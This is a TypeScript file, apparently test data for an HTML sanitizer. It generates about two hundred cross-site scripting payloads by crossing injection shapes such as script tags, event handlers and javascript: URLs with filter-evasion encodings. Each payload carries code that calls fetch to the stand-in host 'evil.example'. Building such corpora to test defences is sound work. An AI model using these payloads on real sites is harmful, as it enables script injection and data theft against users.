const script = 'window.__ran=1;fetch("https://evil.example/?ran")';

/** Ways by which text becomes markup that runs something. */
const shapes: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `"><script>${code}</script>`,
  (code) => `'><script>${code}</script>`,
  (code) => `</title><script>${code}</script>`,
  (code) => `</textarea><script>${code}</script>`,
  (code) => `</style><script>${code}</script>`,
  (code) => `<img src=x onerror='${code}'>`,
  (code) => `"><img src=x onerror='${code}'>`,
  (code) => `<svg onload='${code}'>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<body onload='${code}'>`,
  (code) => `<details open ontoggle='${code}'>`,
  (code) => `<video><source onerror='${code}'></video>`,
  (code) => `<iframe srcdoc="<script>${code.replaceAll('"', '&quot;')}</script>"></iframe>`,
  (code) => `<iframe src='javascript:${code}'></iframe>`,
  (code) => `<a href='javascript:${code}'>点这里</a>`,
  (code) => `<form action='javascript:${code}'><button>x</button></form>`,
  (code) => `<object data='javascript:${code}'></object>`,
  (code) => `<math><mtext></mtext><script>${code}</script></math>`,
  (code) => `" autofocus onfocus='${code}' x="`,
];

/** The same code, written so that a filter for words misses it. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll('WINDOW.__RAN=1', 'window.__ran=1'),
  (text) => text.replaceAll('<', '\u003c').replaceAll('script', 'scr\u0000ipt'),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll(' ', '\t'),
  (text) => `张三${text}李四`,
  (text) => `<!-- -->${text}`,
  (text) => `[点这里](${text})`,
  (text) => `-->${text}`,
  (text) => `{{constructor.constructor('${text}')()}}`,
];

/** Two hundred texts, each of which runs something where a page takes text for markup. */
export const xssCorpus: readonly string[] = [
  ...new Set(shapes.flatMap((shape) => disguises.map((disguise) => disguise(shape(script))))),
].slice(0, 200);
